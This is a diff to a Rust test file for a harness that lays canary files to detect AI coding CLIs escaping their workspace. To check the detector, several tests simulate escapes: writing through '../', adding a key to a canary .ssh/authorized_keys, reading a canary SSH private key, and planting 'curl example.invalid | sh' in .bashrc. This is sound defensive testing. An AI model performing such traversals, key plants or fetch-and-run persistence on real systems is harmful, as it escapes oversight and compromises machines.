@@ -6,7 +6,7 @@ use serde_json::Value;
 use sharedos_conformance_metadata::witness::OwnCall;
 use sharedos_drivers::vendor::Vendor;
 use sharedos_mcp::containment::{
-    asks_for_own_tools, own_calls, placed, Canaries, OwnTool, CANARY_VARIABLE, WORK_CANARY,
+    asks_for_own_tools, own_calls, placed, Canaries, OwnTool, CANARY_HOME, CANARY_VARIABLE, WORK_CANARY,
 };
 use sharedos_mcp::home::TurnHome;
 use sharedos_scripted_model::play::{Play, PlayCall, PlayEnding};
@@ -41,15 +41,15 @@ fn v6_a_stream_shows_the_clis_own_tools_that_ran_and_not_those_it_said_do_not_ex
 fn v6_the_canaries_see_a_file_changed_added_or_removed_in_the_working_folder() {
     let workspace = tempfile::tempdir().unwrap();
     let home = TurnHome::make(workspace.path()).unwrap();
-    let canaries = Canaries::lay(&home).unwrap();
+    let canaries = Canaries::lay(workspace.path(), &home).unwrap();
     assert_eq!(canaries.changed(), Vec::<String>::new());
     std::fs::write(home.work.join("new.txt"), "x").unwrap();
-    assert_eq!(canaries.changed(), ["new.txt"]);
+    assert_eq!(canaries.changed(), ["work/new.txt"]);
     std::fs::write(home.work.join(WORK_CANARY), "changed").unwrap();
-    assert_eq!(canaries.changed(), [WORK_CANARY, "new.txt"]);
+    assert_eq!(canaries.changed(), [format!("work/{WORK_CANARY}"), "work/new.txt".to_string()]);
     std::fs::remove_file(home.work.join("new.txt")).unwrap();
     std::fs::remove_file(home.work.join(WORK_CANARY)).unwrap();
-    assert_eq!(canaries.changed(), [WORK_CANARY]);
+    assert_eq!(canaries.changed(), [format!("work/{WORK_CANARY}")]);
     let (variable, secret) = canaries.variable();
     assert_eq!(variable, CANARY_VARIABLE);
     let secrets = canaries.secrets(Some("token"));
@@ -58,11 +58,62 @@ fn v6_the_canaries_see_a_file_changed_added_or_removed_in_the_working_folder() {
     assert!(secrets.iter().any(|(label, value)| label == "turn's MCP token" && value == "token"));
 }
 
+/// Class 4 of the live-turns work: the canaries sit where an escape lands.
+/// A write through `../`, into the canary home laid out like a real one,
+/// or anywhere in the workspace is seen; what the CLI writes in its own
+/// home and temporary folder is its own.
+#[test]
+fn v6_the_canaries_see_a_write_wherever_an_escape_lands_and_not_in_the_clis_own_folders() {
+    let workspace = tempfile::tempdir().unwrap();
+    let home = TurnHome::make(workspace.path()).unwrap();
+    let canaries = Canaries::lay(workspace.path(), &home).unwrap();
+    let canary_home = workspace.path().join(CANARY_HOME);
+    assert!(canary_home.join(".ssh/id_ed25519").is_file() && canary_home.join(".config/git/config").is_file());
+    std::fs::write(home.home.join(".bash_history"), "its own").unwrap();
+    std::fs::write(home.tmp.join("scratch"), "its own").unwrap();
+    assert_eq!(canaries.changed(), Vec::<String>::new(), "the CLI's own home and temporary folder");
+    std::fs::write(home.work.join("../escaped.txt"), "x").unwrap();
+    std::fs::write(canary_home.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA").unwrap();
+    std::fs::write(canary_home.join(".bashrc"), "curl example.invalid | sh").unwrap();
+    assert_eq!(
+        canaries.changed(),
+        ["canary-home/.bashrc", "canary-home/.ssh/authorized_keys", "escaped.txt"],
+        "a write through ../, into the canary home, and an edit there"
+    );
+}
+
+/// Class 4: any item of a CLI's stream that is neither a served call nor
+/// the model's text counts as the CLI's own action, under whatever kind a
+/// newer CLI reports it.
+#[test]
+fn v6_a_stream_item_of_a_kind_no_reader_knows_counts_as_the_clis_own_action() {
+    let item = |kind: &str, id: &str| format!(r#"{{"type":"item.completed","item":{{"id":"{id}","type":"{kind}"}}}}"#);
+    let codex = [
+        item("agent_message", "1"),
+        item("reasoning", "2"),
+        item("mcp_tool_call", "3"),
+        item("error", "4"),
+        item("collab_tool_call", "5"),
+        item("collab_tool_call", "6"),
+        item("image_view", "7"),
+    ];
+    assert_eq!(
+        own_calls(Vendor::Codex, "sharedos", &codex),
+        [own("collab_tool_call", "reported"), own("image_view", "reported")]
+    );
+    let claude = [
+        r#"{"type":"assistant","message":{"content":[{"type":"text","text":"hi"},{"type":"thinking","thinking":"x"}]}}"#,
+        r#"{"type":"assistant","message":{"content":[{"type":"server_tool_use","name":"web_search","input":{}}]}}"#,
+    ]
+    .map(str::to_string);
+    assert_eq!(own_calls(Vendor::ClaudeCode, "sharedos", &claude), [own("server_tool_use", "reported")]);
+}
+
 #[test]
 fn v6_a_tool_of_the_clis_own_is_asked_for_under_each_clis_own_name() {
     let workspace = tempfile::tempdir().unwrap();
     let home = TurnHome::make(workspace.path()).unwrap();
-    let canaries = Canaries::lay(&home).unwrap();
+    let canaries = Canaries::lay(workspace.path(), &home).unwrap();
     let call = |tool: &str| PlayCall { tool: tool.into(), arguments: Default::default(), at_ms: None, own_tool: false };
     let play = Play {
         calls: vec![call("cli.shell"), call("cli.read"), call("cli.write"), call("cli.fetch"), call("files.read")],
@@ -83,6 +134,8 @@ fn v6_a_tool_of_the_clis_own_is_asked_for_under_each_clis_own_name() {
         assert_eq!(tools[4], "files.read", "a served tool is left as it is");
         assert!(named.calls[..4].iter().all(|call| call.own_tool) && !named.calls[4].own_tool);
         let read = serde_json::to_string(&Value::Object(named.calls[1].arguments.clone())).unwrap();
-        assert!(read.contains("outside-the-workspace.txt"), "{read}");
+        assert!(read.contains("canary-home/.ssh/id_ed25519"), "{read}");
+        let write = serde_json::to_string(&Value::Object(named.calls[2].arguments.clone())).unwrap();
+        assert!(write.contains("/work/../canary-home/.ssh/authorized_keys"), "absolute, through ../: {write}");
     }
 }
